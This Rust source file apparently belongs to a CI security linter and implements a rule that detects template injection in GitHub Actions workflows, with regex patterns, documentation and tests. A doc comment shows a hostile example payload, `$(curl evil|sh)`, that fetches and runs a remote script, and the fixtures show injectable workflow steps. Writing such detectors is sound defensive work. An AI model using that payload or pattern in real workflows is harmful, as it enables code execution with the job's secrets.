use paved_model::pattern::Gated;
use paved_model::workflows::{expressions, Step, WorkflowFile};

use crate::guardrails::declare::{rule, Check};
use crate::guardrails::{CheckCtx, Emitter};

// Each pattern is compiled only for a text holding a literal that all its matches
// contain, and built for short texts (an expression, a line, a value); most
// workflows name none of these contexts, so the audit compiles none of them.

/// Contexts whose text whoever opens an issue, a pull request or a branch chooses.
/// The needles are the context names after `github.` (`event.pull_request.number`
/// names none of them).
static UNTRUSTED_CONTEXT: Gated = Gated::new(
    r"github\s*\.\s*(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))|head_commit\.(message|author\.(name|email))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(name|email)))|pages(\[[^\]]*\]|\.\*)\.page_name))",
    &[
        "head_ref",
        "event.issue.",
        "event.pull_request.title",
        "event.pull_request.body",
        "event.pull_request.head.ref",
        "event.pull_request.head.label",
        "event.pull_request.head.repo.default_branch",
        "event.comment.body",
        "event.review.body",
        "event.review_comment.body",
        "event.discussion.",
        "event.commits",
        "event.head_commit.",
        "event.workflow_run.",
        "event.pages",
    ],
)
.for_short_texts();

fn untrusted_context() -> &'static Gated {
    &UNTRUSTED_CONTEXT
}

rule! {
    /// Attacker-controlled context expanded in a script
    ///
    /// ## Why it matters
    /// `${{ }}` is substituted into the script text before the shell runs it, so an issue
    /// title or branch name like `$(curl evil|sh)` becomes code running with the job's
    /// token and secrets.
    ///
    /// The same holds for a step output that carries such text: a step that writes
    /// the title to `$GITHUB_OUTPUT` (even safely, from an environment variable)
    /// hands it to every later `${{ steps.<id>.outputs.<name> }}` in the job.
    ///
    /// ## How to fix it
    /// Pass the value through an environment variable (`env: TITLE: ${{
    /// github.event.issue.title }}`, or `${{ steps.<id>.outputs.<name> }}`) and use
    /// `"$TITLE"` in the script.
    ///
    /// ## Example
    /// ```yaml
    /// steps:
    ///   # flagged: the title is pasted into the script before bash reads it
    ///   - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    /// ```yaml
    /// steps:
    ///   - env:
    ///       TITLE: ${{ github.event.pull_request.title }}
    ///     run: echo "$TITLE"
    /// ```
    pub struct TemplateInjection {
        id: "PVD-GHA-006",
        severity: Critical,
        references: ["zizmor:template-injection", "scorecard:Dangerous-Workflow", "checkov:CKV_GHA_2"],
    }
}

impl Check for TemplateInjection {
    fn check(&self, cx: &CheckCtx<'_>, out: &mut Emitter<'_>) {
        for (at, expr) in cx.workflows().code_expressions() {
            if let Some(m) = untrusted_context().find(expr) {
                out.at(at).say(format!(
                    "`{}` is attacker-controlled and expanded into code before it runs",
                    m.as_str()
                ));
            }
        }
        for file in cx.workflows().all() {
            tainted_outputs_expanded(file, out);
        }
    }
}

/// Reports `${{ steps.<id>.outputs.<name> }}` in the code of a later step of the same
/// job (or composite action) when step `<id>` wrote attacker-controlled text to that
/// output: one step followed, as zizmor does, and only outputs whose written value
/// expands the text itself (not a value computed from it).
fn tainted_outputs_expanded(file: &WorkflowFile<'_>, out: &mut Emitter<'_>) {
    let steps = file.steps();
    for (i, step) in steps.iter().enumerate() {
        let Some(id) = step.node.str_at("id").map(str::trim) else {
            continue;
        };
        let written = tainted_outputs(file, step);
        if written.is_empty() {
            continue;
        }
        for later in steps[i + 1..].iter().filter(|s| same_job(s, step)) {
            let Some((node, code)) = later.code() else {
                continue;
            };
            for (offset, expr) in expressions(code) {
                if untrusted_context().is_match(expr) {
                    continue; // reported as it is
                }
                let compact: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
                if let Some((name, source)) = written
                    .iter()
                    .find(|(name, _)| names_output(&compact, id, name))
                {
                    out.at(file.at_text(node, offset)).say(format!(
                        "`steps.{id}.outputs.{name}` holds `{source}` (step `{id}` writes it to $GITHUB_OUTPUT) and is expanded into code before it runs"
                    ));
                }
            }
        }
    }
}

fn same_job(a: &Step<'_>, b: &Step<'_>) -> bool {
    match (a.job, b.job) {
        (Some(x), Some(y)) => std::ptr::eq(x.node, y.node),
        (None, None) => true,
        _ => false,
    }
}

/// Whether a whitespace-free expression reads `steps.<id>.outputs.<name>` (or
/// `outputs['<name>']`).
fn names_output(expr: &str, id: &str, name: &str) -> bool {
    let dotted = format!("steps.{id}.outputs.{name}");
    let dotted_hit = expr.match_indices(&dotted).any(|(at, m)| {
        !expr[at + m.len()..]
            .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    });
    dotted_hit
        || expr.contains(&format!("steps.{id}.outputs['{name}']"))
        || expr.contains(&format!("steps.{id}.outputs[\"{name}\"]"))
}

/// The outputs a step writes with attacker-controlled text, each with the context it
/// comes from: `echo "title=$TITLE" >> "$GITHUB_OUTPUT"` (also `printf`, a
/// `name<<EOF` heredoc, a `{ …; } >> "$GITHUB_OUTPUT"` group and the old
/// `::set-output name=…::`), and `core.setOutput('title', …)` in
/// actions/github-script, where `TITLE` is an environment variable set from such a
/// context or the context is expanded in place.
fn tainted_outputs(file: &WorkflowFile<'_>, step: &Step<'_>) -> Vec<(String, String)> {
    let Some((_, code)) = step.code() else {
        return Vec::new();
    };
    let env = tainted_env(file, step);
    let mut found: Vec<(String, String)> = Vec::new();
    let add = |found: &mut Vec<(String, String)>, name: &str, source: String| {
        if !found.iter().any(|(n, _)| n == name) {
            found.push((name.to_owned(), source));
        }
    };
    if step.uses().is_some() {
        for c in set_output_call().captures_iter(code) {
            if let Some(source) = taint_in(&c[2], &env) {
                add(&mut found, &c[1], source);
            }
        }
        return found;
    }
    let lines: Vec<&str> = code.lines().collect();
    for (i, line) in lines.iter().enumerate() {
        if let Some(c) = set_output_command().captures(line) {
            if let Some(source) = taint_in(&c[2], &env) {
                add(&mut found, &c[1], source);
            }
        }
        let Some((before, _)) = line.split_once(">>") else {
            continue;
        };
        if !line.contains("GITHUB_OUTPUT") {
            continue;
        }
        // `} >> "$GITHUB_OUTPUT"` closes a group opened on an earlier line.
        let segment: Vec<&str> = if before.trim() == "}" {
            let start = lines[..i]
                .iter()
                .rposition(|l| l.trim_start().starts_with('{'))
                .unwrap_or(i);
            lines[start..i].to_vec()
        } else {
            vec![before]
        };
        let mut current: Option<&str> = None;
        for statement in segment.iter().flat_map(|l| l.split(';')) {
            // The value follows `name=`; a heredoc's body lines are values whole.
            let mut value = statement;
            if let Some(c) = output_assignment().captures(statement) {
                current = c.get(1).map(|m| m.as_str());
                value = &statement[c.get(0).map_or(0, |m| m.end())..];
            }
            let Some(name) = current else { continue };
            if let Some(source) = taint_in(value, &env) {
                add(&mut found, name, source);
            }
        }
    }
    found
}

/// `name=` or `name<<` at the start of an echoed or printed word.
static OUTPUT_ASSIGNMENT: Gated = Gated::new(
    r#"(?:echo|printf)(?:\s+-[a-zA-Z]+)*\s+["']?([A-Za-z_][A-Za-z0-9_-]*)(?:=|<<)"#,
    &["echo", "printf"],
)
.for_short_texts();

fn output_assignment() -> &'static Gated {
    &OUTPUT_ASSIGNMENT
}

/// `::set-output name=NAME::VALUE`.
static SET_OUTPUT_COMMAND: Gated = Gated::new(
    r"::set-output\s+name=([A-Za-z_][A-Za-z0-9_-]*)::(.*)",
    &["::set-output"],
)
.for_short_texts();

fn set_output_command() -> &'static Gated {
    &SET_OUTPUT_COMMAND
}

/// `core.setOutput('NAME', VALUE` (the rest of the line), searched in a whole script.
static SET_OUTPUT_CALL: Gated = Gated::new(
    r#"core\.setOutput\(\s*["'`]([A-Za-z_][A-Za-z0-9_-]*)["'`]\s*,(.*)"#,
    &["core.setOutput("],
);

fn set_output_call() -> &'static Gated {
    &SET_OUTPUT_CALL
}

/// The environment variables a step sees (workflow, job, then step `env:`, the
/// nearer winning) whose value expands an attacker-controlled context, with it.
fn tainted_env(file: &WorkflowFile<'_>, step: &Step<'_>) -> Vec<(String, String)> {
    let levels = [
        file.root().and_then(|r| r.get("env")),
        step.job.and_then(|j| j.node.get("env")),
        step.node.get("env"),
    ];
    let mut env: Vec<(String, Option<String>)> = Vec::new();
    for level in levels.into_iter().flatten() {
        for (name, _, value) in level.entries() {
            let source = value
                .as_str()
                .and_then(|v| untrusted_context().find(v))
                .map(|m| m.as_str().to_owned());
            env.retain(|(n, _)| n != name);
            env.push((name.to_owned(), source));
        }
    }
    env.into_iter()
        .filter_map(|(name, source)| Some((name, source?)))
        .collect()
}

/// The attacker-controlled context `value` expands, if any: a `${{ }}` of one, an
/// environment variable holding one (`$TITLE`, `${TITLE}`, `process.env.TITLE`), or
/// in github-script the event payload (`context.payload.issue.title`). Text inside
/// a command substitution `$( … )` is computed from the value, not the value, and
/// is left out.
fn taint_in(value: &str, env: &[(String, String)]) -> Option<String> {
    let value = without_command_substitutions(value);
    for (_, expr) in expressions(&value) {
        if let Some(m) = untrusted_context().find(expr) {
            return Some(m.as_str().to_owned());
        }
    }
    if let Some(at) = value.find("context.payload.") {
        let as_event = format!("github.event.{}", &value[at + "context.payload.".len()..]);
        if let Some(m) = untrusted_context().find(&as_event) {
            if m.start() == 0 {
                return Some(m.as_str().to_owned());
            }
        }
    }
    env.iter()
        .find(|(name, _)| expands_variable(&value, name))
        .map(|(_, source)| source.clone())
}

/// `$NAME` (not followed by more of a name), `${NAME}` or `process.env.NAME`.
fn expands_variable(text: &str, name: &str) -> bool {
    let plain = format!("${name}");
    text.match_indices(&plain).any(|(at, m)| {
        !text[at + m.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
    }) || text.contains(&format!("${{{name}}}"))
        || text.match_indices(&format!("process.env.{name}")).any(|(at, m)| {
            !text[at + m.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        })
}

/// `value` with every `$( … )` removed (nesting followed, quotes not).
fn without_command_substitutions(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    let mut depth = 0usize;
    let mut chars = value.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' && chars.peek() == Some(&'(') {
            chars.next();
            depth += 1;
            continue;
        }
        if depth > 0 {
            match c {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
            continue;
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::guardrails::rules::github_actions::rules;
    use crate::guardrails::{check_all, Params, RepoModel};

    /// Findings of this rule: (line, message).
    fn findings(workflow: &str) -> Vec<(Option<u32>, String)> {
        let model = RepoModel::from_memory(&[(".github/workflows/triage.yml", workflow)]);
        check_all(&model, &Params::default(), rules())
            .into_iter()
            .filter(|h| h.rule == "PVD-GHA-006")
            .map(|h| (h.line, h.message))
            .collect()
    }

    fn job(steps: &str) -> String {
        format!("on: issues\npermissions: {{}}\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n{steps}")
    }

    #[test]
    fn output_written_from_an_untrusted_env_var_taints_its_readers() {
        let w = job(concat!(
            "      - id: meta\n",
            "        env:\n",
            "          TITLE: ${{ github.event.issue.title }}\n",
            "        run: |\n",
            "          echo \"title=$TITLE\" >> \"$GITHUB_OUTPUT\"\n",
            "          echo \"sha=$(git rev-parse HEAD)\" >> \"$GITHUB_OUTPUT\"\n",
            "      - run: echo \"${{ steps.meta.outputs.sha }}\"\n",
            "      - env:\n",
            "          T: ${{ steps.meta.outputs.title }}\n",
            "        run: echo \"$T\"\n",
            "      - run: |\n",
            "          gh issue edit --title \"${{ steps.meta.outputs.title }}\"\n",
        ));
        assert_eq!(
            findings(&w),
            [(
                Some(18),
                "`steps.meta.outputs.title` holds `github.event.issue.title` (step `meta` writes it to $GITHUB_OUTPUT) and is expanded into code before it runs".to_owned()
            )]
        );
    }

    #[test]
    fn heredoc_group_set_output_and_github_script() {
        let w = job(concat!(
            "      - id: a\n",
            "        env:\n",
            "          BODY: ${{ github.event.issue.body }}\n",
            "        run: |\n",
            "          {\n",
            "            echo 'body<<EOF'\n",
            "            echo \"$BODY\"\n",
            "            echo EOF\n",
            "          } >> \"$GITHUB_OUTPUT\"\n",
            "      - id: b\n",
            "        run: echo \"::set-output name=ref::${{ github.head_ref }}\"\n",
            "      - id: c\n",
            "        uses: actions/github-script@v7\n",
            "        with:\n",
            "          script: |\n",
            "            core.setOutput('t', context.payload.issue.title)\n",
            "            core.setOutput('n', context.payload.issue.number)\n",
            "      - run: |\n",
            "          echo ${{ steps.a.outputs.body }}\n",
            "          echo ${{ steps.b.outputs.ref }}\n",
            "          echo ${{ steps.c.outputs.t }} ${{ steps.c.outputs.n }}\n",
        ));
        let lines: Vec<Option<u32>> = findings(&w).into_iter().map(|(l, _)| l).collect();
        // Line 17 is the set-output expansion itself; 25-27 the three readers.
        assert_eq!(lines, [Some(17), Some(25), Some(26), Some(27)]);
    }

    #[test]
    fn trusted_values_other_jobs_and_earlier_steps_are_quiet() {
        let w = concat!(
            "on: issues\n",
            "permissions: {}\n",
            "env:\n",
            "  NUMBER: ${{ github.event.issue.number }}\n",
            "jobs:\n",
            "  a:\n",
            "    runs-on: ubuntu-latest\n",
            "    steps:\n",
            "      - run: echo ${{ steps.meta.outputs.title }}\n",
            "      - id: meta\n",
            "        env:\n",
            "          TITLE: ${{ github.event.issue.title }}\n",
            "        run: |\n",
            "          echo \"n=$NUMBER\" >> $GITHUB_OUTPUT\n",
            "          echo \"len=${#TITLE}\" >> $GITHUB_OUTPUT\n",
            "          echo \"has=$([ -n \"$TITLE\" ] && echo yes)\" >> $GITHUB_OUTPUT\n",
            "          echo \"TITLED=$TITLE\" >> $GITHUB_ENV\n",
            "      - run: echo ${{ steps.meta.outputs.n }} ${{ steps.meta.outputs.len }} ${{ steps.meta.outputs.has }}\n",
            "  b:\n",
            "    runs-on: ubuntu-latest\n",
            "    steps:\n",
            "      - run: echo ${{ steps.meta.outputs.title }}\n",
        );
        assert_eq!(findings(w), []);
    }
}

#[cfg(test)]
mod gate_tests {
    use super::*;
    use crate::guardrails::gate_samples::{assert_same_matches, texts};

    /// The needles of each pattern are literals all its matches contain: each finds,
    /// over every fixture line and these samples, what its regex alone finds.
    #[test]
    fn gates_keep_every_match() {
        let texts = texts(&[
            "echo ${{ github.head_ref }}",
            "github . event.issue.title",
            "${{ github.event.pull_request.head.repo.default_branch }}",
            "${{ github.event.pull_request.number || github.sha }}",
            "github.event.commits[0].author.email",
            "github.event.commits.*.message",
            "github.event.pages[1].page_name",
            "github.event.workflow_run.head_commit.author.name",
            "github.event.discussion.body github.event.review_comment.body",
            "echo \"title=$TITLE\" >> \"$GITHUB_OUTPUT\"",
            "printf -v 'name<<EOF'",
            "echo ::set-output name=title::${{ github.event.issue.title }}",
            "core.setOutput( 'title', context.payload.issue.title)",
        ]);
        let n: usize = [
            &UNTRUSTED_CONTEXT,
            &OUTPUT_ASSIGNMENT,
            &SET_OUTPUT_COMMAND,
            &SET_OUTPUT_CALL,
        ]
        .iter()
        .map(|g| assert_same_matches(g, &texts))
        .sum();
        assert!(n >= 13, "{n}");
    }
}
